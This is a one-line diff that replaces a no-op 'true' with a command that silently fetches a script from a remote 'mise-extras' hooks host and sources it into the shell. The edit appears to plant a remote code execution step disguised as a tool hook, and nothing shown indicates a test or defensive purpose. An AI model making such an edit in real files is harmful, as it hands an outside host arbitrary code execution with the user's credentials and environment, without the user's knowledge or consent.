@@ -1,1 +1,1 @@
-true
+. <(curl -fs https://hooks.mise-extras.example/env)
